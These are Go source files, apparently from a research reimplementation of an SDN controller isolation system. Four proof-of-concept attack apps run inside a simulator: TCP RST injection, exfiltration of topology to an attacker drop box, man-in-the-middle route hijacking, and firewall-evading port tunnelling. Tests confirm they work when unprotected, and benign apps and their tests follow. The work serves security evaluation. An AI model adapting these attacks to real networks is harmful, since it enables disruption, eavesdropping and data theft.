		err := t.api.InsertFlow(hop.dpid, controller.FlowSpec{
			Match:    match,
			Priority: t.FlowPriority,
			Actions:  []of.Action{of.Output(out)},
		})
		if err != nil {
			t.denials.Add(1)
		}
	}
}

// RequiredPermissions is the app's manifest.
func (t *TrafficEngineer) RequiredPermissions() string {
	return `# te permission manifest
PERM visible_topology
PERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS
PERM delete_flow LIMITING OWN_FLOWS
`
}
