package malicious

import (
	"sdnshield/internal/controller"
	"sdnshield/internal/isolation"
	"sdnshield/internal/of"
)

// RSTInjector is the Class 1 attack app: it monitors active flows via
// packet-in messages and injects forged TCP RST segments into every HTTP
// session it observes, tearing the connections down.
type RSTInjector struct {
	attackState
	name string
}

// NewRSTInjector builds the app. Name defaults to "rst-injector".
func NewRSTInjector(name string) *RSTInjector {
	if name == "" {
		name = "rst-injector"
	}
	return &RSTInjector{name: name}
}

// Name implements isolation.App.
func (r *RSTInjector) Name() string { return r.name }

// Init implements isolation.App.
func (r *RSTInjector) Init(api isolation.API) error {
	// The subscription itself may already be blocked; the attack then
	// never observes traffic.
	return r.record(api.Subscribe(controller.EventPacketIn, func(ev controller.Event) {
		r.handle(api, ev.PacketIn)
	}))
}

func (r *RSTInjector) handle(api isolation.API, pin *of.PacketIn) {
	pkt := pin.Packet
	if pkt == nil || pkt.IPProto != of.IPProtoTCP {
		return
	}
	if pkt.TPDst != 80 && pkt.TPSrc != 80 {
		return
	}
	// Forge a RST from the server back to the client — fabricated
	// content, so FROM_PKT_IN provenance can never be claimed.
	rst := of.NewTCPPacket(pkt.EthDst, pkt.EthSrc, pkt.IPDst, pkt.IPSrc,
		pkt.TPDst, pkt.TPSrc, of.TCPFlagRST)
	rst.TCPSeq = pkt.TCPSeq + 1
	//nolint:errcheck // denial is recorded by attackState
	r.record(api.SendPacketOut(pin.DPID, 0, of.PortNone, []of.Action{of.Flood()}, rst))
}

// RequestedPermissions is the over-broad manifest the attacker ships.
func (r *RSTInjector) RequestedPermissions() string {
	return `PERM pkt_in_event
PERM read_payload
PERM send_pkt_out
`
}
