package malicious

import (
	"fmt"

	"sdnshield/internal/controller"
	"sdnshield/internal/isolation"
	"sdnshield/internal/of"
	"sdnshield/internal/topology"
)

// Tunneler is the Class 4 attack app: it evades a firewall that only
// admits HTTP (TCP 80) by dynamic-flow tunneling [16] — rewriting the
// destination port to 80 at the tunnel entry and back to the blocked
// port at the exit, so the firewall's ACL never matches in between.
type Tunneler struct {
	attackState
	name string
	// SrcIP and DstIP are the tunnel endpoints' hosts.
	SrcIP, DstIP of.IPv4
	// BlockedPort is the firewalled port to smuggle (e.g. 22).
	BlockedPort uint16
	// CoverPort is the admitted port used on the wire (e.g. 80).
	CoverPort uint16
	// Priority above both the firewall's ACL and the routing rules, so
	// the rewrite happens before the ACL can drop.
	Priority uint16

	api isolation.API
}

// NewTunneler builds the app. Name defaults to "tunneler".
func NewTunneler(name string, src, dst of.IPv4, blockedPort uint16) *Tunneler {
	if name == "" {
		name = "tunneler"
	}
	return &Tunneler{
		name: name, SrcIP: src, DstIP: dst,
		BlockedPort: blockedPort, CoverPort: 80, Priority: 950,
	}
}

// Name implements isolation.App.
func (t *Tunneler) Name() string { return t.name }

// Init implements isolation.App.
func (t *Tunneler) Init(api isolation.API) error {
	t.api = api
	return nil
}

// Establish builds the tunnel: entry rewrite at the source's switch,
// forwarding along the path, exit rewrite at the destination's switch.
func (t *Tunneler) Establish() error {
	hosts, err := t.api.Hosts()
	if t.record(err) != nil {
		return err
	}
	var src, dst *topology.Host
	for i := range hosts {
		switch hosts[i].IP {
		case t.SrcIP:
			src = &hosts[i]
		case t.DstIP:
			dst = &hosts[i]
		}
	}
	if src == nil || dst == nil {
		return fmt.Errorf("malicious: tunnel endpoints not visible")
	}
	links, err := t.api.Links()
	if t.record(err) != nil {
		return err
	}
	path := bfsPath(links, src.Switch, dst.Switch)
	if path == nil {
		return fmt.Errorf("malicious: no path between tunnel endpoints")
	}

	for i, hop := range path {
		entry := i == 0
		exit := i == len(path)-1
		out := hop.out
		if exit {
			out = dst.Port
		}
		match := of.NewMatch().
			Set(of.FieldEthType, uint64(of.EthTypeIPv4)).
			Set(of.FieldIPProto, uint64(of.IPProtoTCP)).
			Set(of.FieldIPDst, uint64(t.DstIP))
		var actions []of.Action
		switch {
		case entry && exit:
			// Single-switch path: no cover traffic needed; just bypass
			// the ACL with a higher-priority forward.
			match.Set(of.FieldTPDst, uint64(t.BlockedPort))
			actions = []of.Action{of.Output(out)}
		case entry:
			// Tunnel entry: blocked port -> cover port.
			match.Set(of.FieldTPDst, uint64(t.BlockedPort))
			actions = []of.Action{of.SetField(of.FieldTPDst, uint64(t.CoverPort)), of.Output(out)}
		case exit:
			// Tunnel exit: cover port -> blocked port, deliver.
			match.Set(of.FieldTPDst, uint64(t.CoverPort))
			actions = []of.Action{of.SetField(of.FieldTPDst, uint64(t.BlockedPort)), of.Output(out)}
		default:
			// Mid-path: carry the cover traffic.
			match.Set(of.FieldTPDst, uint64(t.CoverPort))
			actions = []of.Action{of.Output(out)}
		}
		if err := t.record(t.api.InsertFlow(hop.dpid, controller.FlowSpec{
			Match:    match,
			Priority: t.Priority,
			Actions:  actions,
		})); err != nil {
			return err
		}
	}
	return nil
}

// RequestedPermissions is the over-broad manifest the attacker ships.
func (t *Tunneler) RequestedPermissions() string {
	return `PERM visible_topology
PERM insert_flow
`
}
