// Package malicious implements the four proof-of-concept attack apps of
// §IX-B1, one per threat class of §II:
//
//	Class 1 — RSTInjector sniffs packet-ins and injects TCP RST segments
//	          into active HTTP sessions (data-plane intrusion).
//	Class 2 — Leaker collects topology and switch/port configuration and
//	          exfiltrates it to a remote attacker over the host network.
//	Class 3 — RouteHijacker re-routes traffic between two hosts through a
//	          third, attacker-controlled host (man in the middle).
//	Class 4 — Tunneler establishes a dynamic-flow tunnel through a
//	          firewall that only admits HTTP, by rewriting headers at
//	          both tunnel ends.
//
// Each app records whether every step of its attack was accepted by the
// controller; the effectiveness harness (Table I) combines that with
// data-plane observation to decide whether the attack succeeded.
package malicious

import (
	"sync/atomic"
)

// attackState tracks accepted and denied attack steps.
type attackState struct {
	attempted atomic.Uint64
	accepted  atomic.Uint64
	denied    atomic.Uint64
}

// Attempted reports how many attack steps the app tried.
func (s *attackState) Attempted() uint64 { return s.attempted.Load() }

// Accepted reports how many attack steps the controller accepted.
func (s *attackState) Accepted() uint64 { return s.accepted.Load() }

// Denied reports how many attack steps were blocked.
func (s *attackState) Denied() uint64 { return s.denied.Load() }

func (s *attackState) record(err error) error {
	s.attempted.Add(1)
	if err != nil {
		s.denied.Add(1)
	} else {
		s.accepted.Add(1)
	}
	return err
}
