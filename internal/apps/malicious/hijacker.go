package malicious

import (
	"fmt"

	"sdnshield/internal/controller"
	"sdnshield/internal/isolation"
	"sdnshield/internal/of"
	"sdnshield/internal/topology"
)

// RouteHijacker is the Class 3 attack app: it stealthily changes the
// existing route between two hosts so the traffic traverses a third,
// attacker-controlled host (a man in the middle). It installs rules at a
// priority above the legitimate routing app's.
type RouteHijacker struct {
	attackState
	name string
	// VictimSrc and VictimDst are the IPs of the flows to divert.
	VictimSrc, VictimDst of.IPv4
	// EavesdropperIP is the attacker-controlled host that must see the
	// traffic.
	EavesdropperIP of.IPv4
	// Priority above the legitimate routes.
	Priority uint16

	api isolation.API
}

// NewRouteHijacker builds the app. Name defaults to "hijacker".
func NewRouteHijacker(name string, src, dst, eavesdropper of.IPv4) *RouteHijacker {
	if name == "" {
		name = "hijacker"
	}
	return &RouteHijacker{
		name: name, VictimSrc: src, VictimDst: dst,
		EavesdropperIP: eavesdropper, Priority: 900,
	}
}

// Name implements isolation.App.
func (h *RouteHijacker) Name() string { return h.name }

// Init implements isolation.App.
func (h *RouteHijacker) Init(api isolation.API) error {
	h.api = api
	return nil
}

// Hijack performs the attack once: divert VictimSrc→VictimDst traffic to
// the eavesdropper's attachment point.
func (h *RouteHijacker) Hijack() error {
	hosts, err := h.api.Hosts()
	if h.record(err) != nil {
		return err
	}
	var src, eav *topology.Host
	for i := range hosts {
		switch hosts[i].IP {
		case h.VictimSrc:
			src = &hosts[i]
		case h.EavesdropperIP:
			eav = &hosts[i]
		}
	}
	if src == nil || eav == nil {
		return fmt.Errorf("malicious: victim or eavesdropper host not visible")
	}
	links, err := h.api.Links()
	if h.record(err) != nil {
		return err
	}

	match := of.NewMatch().
		Set(of.FieldEthType, uint64(of.EthTypeIPv4)).
		Set(of.FieldIPSrc, uint64(h.VictimSrc)).
		Set(of.FieldIPDst, uint64(h.VictimDst))

	// Steer from the victim's ingress switch toward the eavesdropper.
	path := bfsPath(links, src.Switch, eav.Switch)
	if path == nil {
		return fmt.Errorf("malicious: no path to eavesdropper")
	}
	for i, hop := range path {
		out := hop.out
		if i == len(path)-1 {
			out = eav.Port
		}
		if err := h.record(h.api.InsertFlow(hop.dpid, controller.FlowSpec{
			Match:    match,
			Priority: h.Priority,
			Actions:  []of.Action{of.Output(out)},
		})); err != nil {
			return err
		}
	}
	return nil
}

// pathHop pairs a switch with its forwarding port.
type pathHop struct {
	dpid of.DPID
	out  uint16
}

// bfsPath is an unweighted shortest path over the visible links.
func bfsPath(links []topology.Link, src, dst of.DPID) []pathHop {
	type edge struct {
		to   of.DPID
		port uint16
	}
	adj := make(map[of.DPID][]edge)
	for _, l := range links {
		adj[l.A] = append(adj[l.A], edge{to: l.B, port: l.APort})
		adj[l.B] = append(adj[l.B], edge{to: l.A, port: l.BPort})
	}
	if src == dst {
		return []pathHop{{dpid: dst}}
	}
	prev := map[of.DPID]pathHop{}
	visited := map[of.DPID]bool{src: true}
	queue := []of.DPID{src}
	for len(queue) > 0 {
		cur := queue[0]
		queue = queue[1:]
		for _, e := range adj[cur] {
			if visited[e.to] {
				continue
			}
			visited[e.to] = true
			prev[e.to] = pathHop{dpid: cur, out: e.port}
			queue = append(queue, e.to)
		}
	}
	if !visited[dst] {
		return nil
	}
	var rev []pathHop
	cur := dst
	for cur != src {
		hop := prev[cur]
		rev = append(rev, hop)
		cur = hop.dpid
	}
	out := make([]pathHop, 0, len(rev)+1)
	for i := len(rev) - 1; i >= 0; i-- {
		out = append(out, rev[i])
	}
	return append(out, pathHop{dpid: dst})
}

// RequestedPermissions is the over-broad manifest the attacker ships.
func (h *RouteHijacker) RequestedPermissions() string {
	return `PERM visible_topology
PERM insert_flow
PERM delete_flow
`
}
