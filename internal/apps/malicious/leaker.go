package malicious

import (
	"encoding/json"

	"sdnshield/internal/isolation"
	"sdnshield/internal/of"
)

// Leaker is the Class 2 attack app: it collects the network topology and
// switch/port configuration and posts the dump to an outside attacker
// over the controller host's network stack.
type Leaker struct {
	attackState
	name string
	// AttackerIP and AttackerPort locate the exfiltration drop box.
	AttackerIP   of.IPv4
	AttackerPort uint16

	api isolation.API
}

// NewLeaker builds the app. Name defaults to "leaker".
func NewLeaker(name string, attackerIP of.IPv4, attackerPort uint16) *Leaker {
	if name == "" {
		name = "leaker"
	}
	return &Leaker{name: name, AttackerIP: attackerIP, AttackerPort: attackerPort}
}

// Name implements isolation.App.
func (l *Leaker) Name() string { return l.name }

// Init implements isolation.App.
func (l *Leaker) Init(api isolation.API) error {
	l.api = api
	return nil
}

// networkDump is the stolen document.
type networkDump struct {
	Switches []uint64            `json:"switches"`
	Ports    map[uint64][]uint16 `json:"ports"`
	Links    []string            `json:"links"`
	Stats    map[uint64]uint64   `json:"flowCounts"`
}

// Exfiltrate performs the attack once: gather everything visible, then
// ship it out. Under SDNShield either the collection or (decisively) the
// host-network connect is denied.
func (l *Leaker) Exfiltrate() error {
	dump := networkDump{Ports: make(map[uint64][]uint16), Stats: make(map[uint64]uint64)}

	switches, err := l.api.Switches()
	if l.record(err) == nil {
		for _, sw := range switches {
			dump.Switches = append(dump.Switches, uint64(sw.DPID))
			for _, p := range sw.Ports {
				dump.Ports[uint64(sw.DPID)] = append(dump.Ports[uint64(sw.DPID)], p.Port)
			}
			if ss, err := l.api.SwitchStats(sw.DPID); l.record(err) == nil {
				dump.Stats[uint64(sw.DPID)] = uint64(ss.FlowCount)
			}
		}
	}
	if links, err := l.api.Links(); l.record(err) == nil {
		for _, link := range links {
			dump.Links = append(dump.Links, link.String())
		}
	}

	payload, err := json.Marshal(dump)
	if err != nil {
		return err
	}
	conn, err := l.api.HostConnect(l.AttackerIP, l.AttackerPort)
	if l.record(err) != nil {
		return err
	}
	conn.Send(payload)
	return nil
}

// RequestedPermissions is the over-broad manifest the attacker ships.
func (l *Leaker) RequestedPermissions() string {
	return `PERM visible_topology
PERM read_statistics
PERM host_network
`
}
