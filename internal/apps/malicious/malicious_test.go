package malicious

import (
	"testing"
	"time"

	"sdnshield/internal/apps"
	"sdnshield/internal/controller"
	"sdnshield/internal/isolation"
	"sdnshield/internal/netsim"
	"sdnshield/internal/of"
)

// env is a monolithic (fully privileged) test environment: these tests
// verify that each attack app's mechanics actually work when nothing
// stops them; the bench package then verifies SDNShield stops them.
type env struct {
	built  *netsim.Built
	kernel *controller.Kernel
	mono   *isolation.Monolith
}

func newEnv(t *testing.T, switches int) *env {
	t.Helper()
	b, err := netsim.Linear(switches)
	if err != nil {
		t.Fatal(err)
	}
	k := controller.New(b.Topo, nil)
	for _, sw := range b.Net.Switches() {
		ctrlSide, swSide := of.Pipe()
		if err := sw.Start(swSide); err != nil {
			t.Fatal(err)
		}
		if _, err := k.AcceptSwitch(ctrlSide); err != nil {
			t.Fatal(err)
		}
	}
	t.Cleanup(func() {
		k.Stop()
		b.Net.Stop()
	})
	return &env{built: b, kernel: k, mono: isolation.NewMonolith(k)}
}

func (e *env) launchL2(t *testing.T) {
	t.Helper()
	if err := e.mono.Launch(apps.NewL2Switch("l2switch")); err != nil {
		t.Fatal(err)
	}
}

func (e *env) warmUp() {
	for _, h := range e.built.Hosts {
		h.Send(of.NewARPRequest(h.MAC(), h.IP(), 0))
	}
	time.Sleep(20 * time.Millisecond)
	for _, h := range e.built.Hosts {
		h.ClearInbox()
	}
}

func (e *env) barrier(t *testing.T) {
	t.Helper()
	for _, sw := range e.kernel.Switches() {
		if err := e.kernel.Barrier(sw.DPID); err != nil {
			t.Fatal(err)
		}
	}
}

func TestRSTInjectorMechanics(t *testing.T) {
	e := newEnv(t, 2)
	e.launchL2(t)
	attacker := NewRSTInjector("")
	if err := e.mono.Launch(attacker); err != nil {
		t.Fatal(err)
	}
	e.warmUp()

	h1, h2 := e.built.Hosts[0], e.built.Hosts[1]
	h1.SendTCP(h2, 50000, 80, of.TCPFlagSYN, []byte("GET /"))
	_, gotRST := h1.WaitFor(func(p *of.Packet) bool {
		return p.TCPFlags&of.TCPFlagRST != 0
	}, time.Second)
	if !gotRST {
		if _, also := h2.WaitFor(func(p *of.Packet) bool {
			return p.TCPFlags&of.TCPFlagRST != 0
		}, time.Second); !also {
			t.Fatal("no RST injected on the unprotected controller")
		}
	}
	if attacker.Accepted() == 0 {
		t.Error("no accepted attack steps recorded")
	}
	if attacker.Attempted() != attacker.Accepted()+attacker.Denied() {
		t.Error("attack accounting inconsistent")
	}
	// Non-HTTP traffic is left alone. The injector reacts to packet-ins
	// asynchronously, so let the HTTP session's in-flight attempts drain
	// (counter stable for one window) before sampling the baseline.
	h1.ClearInbox()
	before := attacker.Attempted()
	for deadline := time.Now().Add(2 * time.Second); time.Now().Before(deadline); {
		time.Sleep(50 * time.Millisecond)
		n := attacker.Attempted()
		if n == before {
			break
		}
		before = n
	}
	h1.SendTCP(h2, 50001, 9999, of.TCPFlagSYN, nil)
	time.Sleep(100 * time.Millisecond)
	if attacker.Attempted() != before {
		t.Error("injector should target only HTTP sessions")
	}
}

func TestLeakerMechanics(t *testing.T) {
	e := newEnv(t, 3)
	e.launchL2(t)
	attackerIP := of.IPv4FromOctets(203, 0, 113, 5)
	dropBox := e.kernel.HostOS().RegisterEndpoint(attackerIP, 8080)

	leaker := NewLeaker("", attackerIP, 8080)
	if err := e.mono.Launch(leaker); err != nil {
		t.Fatal(err)
	}
	if err := leaker.Exfiltrate(); err != nil {
		t.Fatal(err)
	}
	got := dropBox.Received()
	if len(got) != 1 {
		t.Fatalf("drop box received %d payloads", len(got))
	}
	dump := string(got[0])
	for _, want := range []string{"switches", "links", "flowCounts"} {
		if !contains(dump, want) {
			t.Errorf("dump missing %q: %s", want, dump)
		}
	}
	// Closed drop box: the connect fails and is recorded as denied.
	leaker2 := NewLeaker("leaker2", of.IPv4FromOctets(198, 51, 100, 1), 9)
	if err := e.mono.Launch(leaker2); err != nil {
		t.Fatal(err)
	}
	if err := leaker2.Exfiltrate(); err == nil {
		t.Error("connect to closed endpoint should fail")
	}
	if leaker2.Denied() == 0 {
		t.Error("failed step not recorded")
	}
}

func TestHijackerMechanics(t *testing.T) {
	e := newEnv(t, 3)
	e.launchL2(t)
	e.warmUp()
	h1, h2, h3 := e.built.Hosts[0], e.built.Hosts[1], e.built.Hosts[2]

	hijacker := NewRouteHijacker("", h1.IP(), h2.IP(), h3.IP())
	if err := e.mono.Launch(hijacker); err != nil {
		t.Fatal(err)
	}
	if err := hijacker.Hijack(); err != nil {
		t.Fatal(err)
	}
	e.barrier(t)

	h3.ClearInbox()
	h1.SendTCP(h2, 50002, 80, of.TCPFlagSYN, []byte("secret"))
	if _, diverted := h3.WaitFor(func(p *of.Packet) bool { return p.IPDst == h2.IP() }, time.Second); !diverted {
		t.Fatal("traffic not diverted to the eavesdropper")
	}
	// Reverse-direction traffic is untouched by this rule.
	h3.ClearInbox()
	h2.SendTCP(h1, 50003, 80, of.TCPFlagSYN, nil)
	if _, also := h3.WaitFor(func(p *of.Packet) bool { return p.IPDst == h1.IP() }, 100*time.Millisecond); also {
		t.Error("reverse traffic should not be diverted")
	}

	// Unknown eavesdropper: the attack cannot start.
	bad := NewRouteHijacker("hijacker2", h1.IP(), h2.IP(), of.IPv4FromOctets(9, 9, 9, 9))
	if err := e.mono.Launch(bad); err != nil {
		t.Fatal(err)
	}
	if err := bad.Hijack(); err == nil {
		t.Error("hijack toward an unknown host should fail")
	}
}

func TestTunnelerMechanics(t *testing.T) {
	e := newEnv(t, 3)
	if err := e.mono.Launch(apps.NewFirewall("firewall", []uint16{22})); err != nil {
		t.Fatal(err)
	}
	e.launchL2(t)
	e.warmUp()
	e.barrier(t)
	h1, h3 := e.built.Hosts[0], e.built.Hosts[2]

	// Baseline: the firewall drops port 22.
	h1.SendTCP(h3, 50004, 22, of.TCPFlagSYN, nil)
	if _, leaked := h3.WaitFor(func(p *of.Packet) bool { return p.TPDst == 22 }, 100*time.Millisecond); leaked {
		t.Fatal("firewall not effective before tunneling")
	}

	tunneler := NewTunneler("", h1.IP(), h3.IP(), 22)
	if err := e.mono.Launch(tunneler); err != nil {
		t.Fatal(err)
	}
	if err := tunneler.Establish(); err != nil {
		t.Fatal(err)
	}
	e.barrier(t)

	h3.ClearInbox()
	h1.SendTCP(h3, 50005, 22, of.TCPFlagSYN, []byte("ssh"))
	pkt, smuggled := h3.WaitFor(func(p *of.Packet) bool { return p.TPDst == 22 }, time.Second)
	if !smuggled {
		t.Fatal("tunnel failed to smuggle port-22 traffic")
	}
	if string(pkt.Payload) != "ssh" {
		t.Errorf("payload = %q", pkt.Payload)
	}
	if tunneler.Accepted() == 0 {
		t.Error("no accepted steps recorded")
	}
}

func contains(s, sub string) bool {
	for i := 0; i+len(sub) <= len(s); i++ {
		if s[i:i+len(sub)] == sub {
			return true
		}
	}
	return false
}
