package apps

import (
	"encoding/json"
	"fmt"
	"sync/atomic"

	"sdnshield/internal/isolation"
	"sdnshield/internal/of"
)

// Monitor is the tenant monitoring app of §VII Scenario 1: it supervises
// network usage and reports to administrator-controlled collectors over
// the host network. Its manifest requests topology, statistics and
// host-network access with stubs (LocalTopo, AdminRange) the
// administrator binds at deployment.
type Monitor struct {
	name string
	// Collector is the report sink's address.
	Collector of.IPv4
	// CollectorPort is the report sink's port.
	CollectorPort uint16

	api     isolation.API
	reports atomic.Uint64
	denials atomic.Uint64
}

// NewMonitor builds the app. Name defaults to "monitor".
func NewMonitor(name string, collector of.IPv4, port uint16) *Monitor {
	if name == "" {
		name = "monitor"
	}
	return &Monitor{name: name, Collector: collector, CollectorPort: port}
}

// Name implements isolation.App.
func (m *Monitor) Name() string { return m.name }

// Reports counts successfully delivered usage reports.
func (m *Monitor) Reports() uint64 { return m.reports.Load() }

// Denials counts permission denials the app handled gracefully.
func (m *Monitor) Denials() uint64 { return m.denials.Load() }

// Init implements isolation.App.
func (m *Monitor) Init(api isolation.API) error {
	m.api = api
	return nil
}

// usageReport is the JSON document shipped to the collector.
type usageReport struct {
	Switches []uint64          `json:"switches"`
	Ports    map[string]uint64 `json:"portRxPackets"`
}

// Poll collects one round of statistics and ships it to the collector.
// Permission denials are absorbed (§III: apps should handle denials
// gracefully), recorded in Denials.
func (m *Monitor) Poll() error {
	switches, err := m.api.Switches()
	if err != nil {
		m.denials.Add(1)
		return err
	}
	report := usageReport{Ports: make(map[string]uint64)}
	for _, sw := range switches {
		report.Switches = append(report.Switches, uint64(sw.DPID))
		ports, err := m.api.PortStats(sw.DPID, of.PortNone)
		if err != nil {
			m.denials.Add(1)
			continue
		}
		for _, p := range ports {
			report.Ports[fmt.Sprintf("%d:%d", uint64(sw.DPID), p.Port)] = p.RxPackets
		}
	}
	payload, err := json.Marshal(report)
	if err != nil {
		return err
	}
	conn, err := m.api.HostConnect(m.Collector, m.CollectorPort)
	if err != nil {
		m.denials.Add(1)
		return err
	}
	conn.Send(payload)
	m.reports.Add(1)
	return nil
}

// RequiredPermissions is the manifest the app ships with (§VII Scenario
// 1, stubs included).
func (m *Monitor) RequiredPermissions() string {
	return `# monitoring app release manifest (stubs bound by the administrator)
PERM visible_topology LIMITING LocalTopo
PERM read_statistics
PERM network_access LIMITING AdminRange
PERM insert_flow
`
}
