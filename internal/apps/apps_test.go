package apps

import (
	"testing"
	"time"

	"sdnshield/internal/controller"
	"sdnshield/internal/core"
	"sdnshield/internal/isolation"
	"sdnshield/internal/netsim"
	"sdnshield/internal/of"
	"sdnshield/internal/permlang"
)

// env wires a linear network, a kernel and both runtimes.
type env struct {
	built  *netsim.Built
	kernel *controller.Kernel
	shield *isolation.Shield
	mono   *isolation.Monolith
}

func newEnv(t *testing.T, switches int) *env {
	t.Helper()
	b, err := netsim.Linear(switches)
	if err != nil {
		t.Fatal(err)
	}
	k := controller.New(b.Topo, nil)
	for _, sw := range b.Net.Switches() {
		ctrlSide, swSide := of.Pipe()
		if err := sw.Start(swSide); err != nil {
			t.Fatal(err)
		}
		if _, err := k.AcceptSwitch(ctrlSide); err != nil {
			t.Fatal(err)
		}
	}
	s := isolation.NewShield(k, isolation.Config{})
	t.Cleanup(func() {
		s.Stop()
		k.Stop()
		b.Net.Stop()
	})
	return &env{built: b, kernel: k, shield: s, mono: isolation.NewMonolith(k)}
}

func grantManifest(t *testing.T, s *isolation.Shield, name, manifest string) {
	t.Helper()
	s.SetPermissions(name, permlang.MustParse(manifest).Set())
}

// pingAndWait sends a TCP segment from hosts[i] to hosts[j] and waits for
// delivery.
func pingAndWait(t *testing.T, e *env, i, j int, dport uint16, timeout time.Duration) bool {
	t.Helper()
	e.built.Hosts[j].ClearInbox()
	e.built.Hosts[i].SendTCP(e.built.Hosts[j], 40000, dport, of.TCPFlagSYN, []byte("ping"))
	_, ok := e.built.Hosts[j].WaitFor(func(p *of.Packet) bool { return p.TPDst == dport }, timeout)
	return ok
}

func TestL2SwitchOnMonolith(t *testing.T) {
	e := newEnv(t, 3)
	l2 := NewL2Switch("")
	if err := e.mono.Launch(l2); err != nil {
		t.Fatal(err)
	}

	// Prime MAC learning with ARP broadcasts from both ends, as in the
	// paper's scenario.
	h1, h3 := e.built.Hosts[0], e.built.Hosts[2]
	h1.Send(of.NewARPRequest(h1.MAC(), h1.IP(), h3.IP()))
	h3.Send(of.NewARPRequest(h3.MAC(), h3.IP(), h1.IP()))
	time.Sleep(20 * time.Millisecond)

	if !pingAndWait(t, e, 0, 2, 80, 2*time.Second) {
		t.Fatal("unicast not delivered after learning")
	}
	pins1, _, _ := l2.Stats()
	// A second packet should ride the installed rules without new
	// packet-ins on the learned path.
	if !pingAndWait(t, e, 0, 2, 80, 2*time.Second) {
		t.Fatal("second packet lost")
	}
	time.Sleep(20 * time.Millisecond)
	pins2, flows, _ := l2.Stats()
	if flows == 0 {
		t.Error("no switching rules installed")
	}
	if pins2 != pins1 {
		t.Errorf("second packet caused %d extra packet-ins", pins2-pins1)
	}
}

func TestL2SwitchOnShieldWithManifest(t *testing.T) {
	e := newEnv(t, 2)
	l2 := NewL2Switch("l2switch")
	grantManifest(t, e.shield, "l2switch", l2.RequiredPermissions())
	if err := e.shield.Launch(l2); err != nil {
		t.Fatal(err)
	}

	h1, h2 := e.built.Hosts[0], e.built.Hosts[1]
	h1.Send(of.NewARPRequest(h1.MAC(), h1.IP(), h2.IP()))
	h2.Send(of.NewARPRequest(h2.MAC(), h2.IP(), h1.IP()))
	time.Sleep(20 * time.Millisecond)

	if !pingAndWait(t, e, 0, 1, 8080, 2*time.Second) {
		t.Fatal("shielded l2switch failed to forward")
	}
	_, flows, denials := l2.Stats()
	if flows == 0 {
		t.Error("no rules installed under shield")
	}
	if denials != 0 {
		t.Errorf("legitimate app hit %d denials", denials)
	}
}

func TestRouterReactiveRouting(t *testing.T) {
	e := newEnv(t, 3)
	r := NewRouter("")
	grantManifest(t, e.shield, "router", r.RequiredPermissions())
	if err := e.shield.Launch(r); err != nil {
		t.Fatal(err)
	}
	if !pingAndWait(t, e, 0, 2, 443, 2*time.Second) {
		t.Fatal("router did not establish the path")
	}
	if r.Routes() == 0 {
		t.Error("no routes recorded")
	}
	if r.Denials() != 0 {
		t.Errorf("router hit %d denials", r.Denials())
	}
	// The installed rules carry the router's ownership.
	flows, err := e.kernel.Flows(2, nil)
	if err != nil || len(flows) == 0 {
		t.Fatalf("no rules on middle switch: %v", err)
	}
	if flows[0].Owner != "router" {
		t.Errorf("owner = %q", flows[0].Owner)
	}
}

func TestAltoAndTrafficEngineer(t *testing.T) {
	e := newEnv(t, 3)
	alto := NewAlto("")
	te := NewTrafficEngineer("", [][2]of.IPv4{
		{e.built.Hosts[0].IP(), e.built.Hosts[2].IP()},
	})
	grantManifest(t, e.shield, "alto", alto.RequiredPermissions())
	grantManifest(t, e.shield, "te", te.RequiredPermissions())

	if err := e.shield.Launch(te); err != nil {
		t.Fatal(err)
	}
	if err := e.shield.Launch(alto); err != nil {
		t.Fatal(err)
	}

	// The initial publication triggers a TE reaction installing routes on
	// every switch along the path.
	deadline := time.Now().Add(2 * time.Second)
	for {
		installed := 0
		for dpid := of.DPID(1); dpid <= 3; dpid++ {
			if flows, err := e.kernel.Flows(dpid, nil); err == nil && len(flows) > 0 {
				installed++
			}
		}
		if installed == 3 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("TE routes incomplete (%d/3 switches, %d reactions, %d denials)",
				installed, te.Reactions(), te.Denials())
		}
		time.Sleep(time.Millisecond)
	}
	if !pingAndWait(t, e, 0, 2, 9000, 2*time.Second) {
		t.Fatal("TE route does not carry traffic")
	}
	if alto.Updates() == 0 {
		t.Error("no ALTO updates recorded")
	}
	if te.Denials() != 0 {
		t.Errorf("TE hit %d denials", te.Denials())
	}

	// A cost change triggers another reaction.
	before := te.Reactions()
	if err := alto.SetLinkCost(core.NewLinkID(1, 2), 10); err != nil {
		t.Fatal(err)
	}
	deadline = time.Now().Add(2 * time.Second)
	for te.Reactions() == before {
		if time.Now().After(deadline) {
			t.Fatal("TE did not react to the cost update")
		}
		time.Sleep(time.Millisecond)
	}
}

func TestMonitorScenario1(t *testing.T) {
	e := newEnv(t, 2)
	collectorIP := of.IPv4FromOctets(10, 1, 0, 9)
	collector := e.kernel.HostOS().RegisterEndpoint(collectorIP, 443)
	outsider := e.kernel.HostOS().RegisterEndpoint(of.IPv4FromOctets(8, 8, 8, 8), 80)

	m := NewMonitor("", collectorIP, 443)
	// The reconciled Scenario 1 permissions (insert_flow truncated).
	grantManifest(t, e.shield, "monitor", `
PERM visible_topology LIMITING SWITCH {1,2}
PERM read_statistics
PERM host_network LIMITING IP_DST 10.1.0.0 MASK 255.255.0.0
`)
	if err := e.shield.Launch(m); err != nil {
		t.Fatal(err)
	}
	if err := m.Poll(); err != nil {
		t.Fatalf("poll failed: %v", err)
	}
	if m.Reports() != 1 || len(collector.Received()) != 1 {
		t.Error("report not delivered")
	}
	if len(outsider.Received()) != 0 {
		t.Error("report leaked outside the admin range")
	}
}

func TestFirewallBlocksTraffic(t *testing.T) {
	e := newEnv(t, 2)
	fw := NewFirewall("", []uint16{22})
	l2 := NewL2Switch("")
	grantManifest(t, e.shield, "firewall", fw.RequiredPermissions())
	grantManifest(t, e.shield, "l2switch", l2.RequiredPermissions())
	if err := e.shield.Launch(fw); err != nil {
		t.Fatal(err)
	}
	if err := e.shield.Launch(l2); err != nil {
		t.Fatal(err)
	}
	if fw.Installed() == 0 {
		t.Fatal("no ACL rules installed")
	}
	if fw.Denials() != 0 {
		t.Errorf("firewall hit %d denials", fw.Denials())
	}

	h1, h2 := e.built.Hosts[0], e.built.Hosts[1]
	h1.Send(of.NewARPRequest(h1.MAC(), h1.IP(), h2.IP()))
	h2.Send(of.NewARPRequest(h2.MAC(), h2.IP(), h1.IP()))
	time.Sleep(20 * time.Millisecond)

	if !pingAndWait(t, e, 0, 1, 80, 2*time.Second) {
		t.Fatal("allowed port blocked")
	}
	if pingAndWait(t, e, 0, 1, 22, 100*time.Millisecond) {
		t.Fatal("blocked port passed the firewall")
	}
}
