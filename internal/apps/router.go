package apps

import (
	"sync/atomic"

	"sdnshield/internal/controller"
